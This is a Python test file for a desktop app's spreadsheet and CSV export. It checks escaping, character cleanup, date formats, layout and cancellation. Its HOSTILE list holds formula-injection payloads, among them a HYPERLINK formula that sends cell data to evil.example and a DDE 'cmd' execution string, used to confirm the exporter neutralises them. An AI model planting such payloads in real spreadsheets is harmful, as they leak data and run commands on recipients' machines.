"""desktop.spreadsheets: every table file the app saves keeps hostile text as text, holds any character it is
given, shows dates as dd/mm/yyyy, is laid out for reading, and appears whole or not at all."""

from __future__ import annotations

import csv
import datetime as dt
import threading

import pytest

from desktop.contacts.importer import Status, import_file
from desktop.errors import Cancelled
from desktop.spreadsheets import MAX_WIDTH, MIN_WIDTH, write_table
from tests.helpers.spreadsheets import read_written

#: Text a spreadsheet would run as a formula (the injection corpus of the reliability review).
HOSTILE = ["=1+1", '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")', "=cmd|' /C calc'!A0",
           "+84912345678", "-2+3", "@SUM(A1:A9)", "\t=1+1"]


def test_formula_like_text_reads_back_as_the_same_text(tmp_path) -> None:
    path = tmp_path / "hostile.xlsx"
    assert write_table(path, ["=HEADER()", "Ghi chú"], [[text, "bình thường"] for text in HOSTILE], sheet="S") == 7
    written = read_written(path)
    assert written.formulas == []
    assert [row[0] for row in written.rows] == ["=HEADER()", *HOSTILE]
    assert [row[0] for row in written.calamine] == ["=HEADER()", *HOSTILE]
    assert [row[1] for row in written.rows[1:]] == ["bình thường"] * 7
    # Excel's quote prefix keeps them text when someone edits the cell; ordinary text is left alone
    assert [row for row in written.quoted[1:]] == [(True, False)] * 7


def test_a_carriage_return_first_stays_text(tmp_path) -> None:
    """XML reads a bare CR as a line feed, so it comes back as one; the cell is still text, not a formula."""
    path = tmp_path / "cr.xlsx"
    write_table(path, ["Ghi chú"], [["\r=1+1"]], sheet="S")
    written = read_written(path)
    assert written.formulas == [] and written.rows[1] == ("\n=1+1",) and written.quoted[1] == (True,)


def test_numbers_are_numbers_and_negative_numbers_are_not_quoted(tmp_path) -> None:
    path = tmp_path / "numbers.xlsx"
    write_table(path, ["Số tiền", "Phone"], [[-5, 912345678.0], [1350.5, None], [float("nan"), float("-inf")]],
                sheet="S")
    written = read_written(path)
    assert written.rows[1:] == [(-5, 912345678), (1350.5, None), ("nan", "-inf")]  # .xlsx has no such numbers
    assert written.calamine[3] == ["nan", "-inf"]
    assert written.quoted[1:] == [(False, False), (False, False), (False, True)]


def test_characters_xlsx_cannot_hold_are_removed_not_fatal(tmp_path) -> None:
    path = tmp_path / "control.xlsx"
    write_table(path, ["Họ và tên\x01"], [["Nguyễn\x0bVăn A"], ["Trần\x00\x07 B\x1fC"], ["=\x0b1+1"]], sheet="S")
    written = read_written(path)
    assert [row[0] for row in written.rows] == ["Họ và tên", "Nguyễn Văn A", "Trần B C", "= 1+1"]
    assert written.formulas == []


def test_dates_are_dates_shown_day_first(tmp_path) -> None:
    path = tmp_path / "dates.xlsx"
    aware = dt.datetime(2026, 2, 27, 14, 33, tzinfo=dt.timezone(dt.timedelta(hours=7)))
    rows = [[dt.datetime(2026, 2, 27, 14, 33, 47), dt.date(2026, 12, 9), dt.datetime(2026, 12, 9), aware]]
    write_table(path, ["Thời gian", "Hạn", "Ngày", "Giờ VN"], rows, sheet="S")
    written = read_written(path)
    assert written.rows[1] == (dt.datetime(2026, 2, 27, 14, 33, 47), dt.datetime(2026, 12, 9),
                               dt.datetime(2026, 12, 9), dt.datetime(2026, 2, 27, 14, 33))  # its wall-clock time
    assert written.number_formats[1] == ("dd/mm/yyyy hh:mm", "dd/mm/yyyy", "dd/mm/yyyy", "dd/mm/yyyy hh:mm")
    assert written.calamine[1][:2] == [dt.datetime(2026, 2, 27, 14, 33, 47), dt.date(2026, 12, 9)]


def test_header_is_bold_frozen_and_filtered_and_columns_fit_their_content(tmp_path) -> None:
    path = tmp_path / "layout.xlsx"
    rows = [["Nguyễn Văn A", "x", "y" * 500, dt.date(2026, 12, 9)], ["Trần Thị Bích Ngọc", "", "dòng 1\ndòng 2", None]]
    write_table(path, ["Họ và tên", "A", "Ghi chú", "Hạn"], rows, sheet="S")
    written = read_written(path)
    assert written.bold_header and written.freeze == "A2" and written.autofilter == "A1:D3"
    assert written.widths == {"A": len("Trần Thị Bích Ngọc") + 2, "B": MIN_WIDTH, "C": MAX_WIDTH,
                              "D": len("09/12/2026") + 2}


def test_an_empty_table_still_has_its_header_and_filter(tmp_path) -> None:
    path = tmp_path / "empty.xlsx"
    assert write_table(path, ["Phone", "Outcome"], [], sheet="S") == 0
    written = read_written(path)
    assert written.rows == [("Phone", "Outcome")] and written.autofilter == "A1:B1"


def test_csv_is_utf8_with_bom_and_quotes_formula_like_text(tmp_path) -> None:
    path = tmp_path / "hostile.csv"
    rows = [[text, -5, dt.datetime(2026, 2, 27, 14, 33), dt.date(2026, 12, 9), "Nguyễn\x0bVăn A"] for text in HOSTILE]
    assert write_table(path, ["=H", "n", "Thời gian", "Hạn", "Tên"], rows, sheet="S", fmt="csv") == 7
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    with path.open(encoding="utf-8-sig", newline="") as handle:
        read = list(csv.reader(handle))
    assert read[0] == ["'=H", "n", "Thời gian", "Hạn", "Tên"]
    assert [row[0] for row in read[1:]] == [f"'{text}" for text in HOSTILE]
    assert read[1][1:] == ["-5", "27/02/2026 14:33", "09/12/2026", "Nguyễn Văn A"]


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_our_importer_reads_the_phones_back(tmp_path, fmt) -> None:
    """A phone written with its "+" (quoted in .csv, as OWASP asks) is the same number when imported again."""
    phones = ["+84912345678", "+84 987 654 321", "0912000111", "-0912000222"]
    path = tmp_path / f"again.{fmt}"
    write_table(path, ["Họ và tên", "Số điện thoại"], [[f"=Khách {i}", p] for i, p in enumerate(phones)], sheet="S",
                fmt=fmt)
    report = import_file(path)
    assert [r.e164 for r in report.rows] == ["+84912345678", "+84987654321", "+84912000111", "+84912000222"]
    assert all(r.status is Status.VALID for r in report.rows)
    names = [r.name for r in report.rows]
    assert names == ([f"=Khách {i}" for i in range(4)] if fmt == "xlsx" else [f"'=Khách {i}" for i in range(4)])


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_cancel_or_failure_leaves_nothing_and_keeps_an_earlier_file(tmp_path, fmt) -> None:
    path = tmp_path / f"out.{fmt}"
    path.write_bytes(b"earlier export")
    pressed = threading.Event()

    def rows():
        for i in range(5000):
            if i == 3000:
                pressed.set()
            yield [f"+8491{i:07d}"]

    with pytest.raises(Cancelled):
        write_table(path, ["Phone"], rows(), sheet="S", fmt=fmt, total=5000, cancel=pressed)
    with pytest.raises(OSError):
        write_table(tmp_path / "no such folder" / f"x.{fmt}", ["Phone"], [["1"]], sheet="S", fmt=fmt)
    assert [p.name for p in tmp_path.iterdir()] == [path.name] and path.read_bytes() == b"earlier export"


def test_progress_reaches_the_total(tmp_path) -> None:
    seen = []
    write_table(tmp_path / "p.xlsx", ["n"], ([i] for i in range(600)), sheet="S", total=600, progress=seen.append)
    assert seen[0].done == 0 and seen[-1].done == seen[-1].total == 600
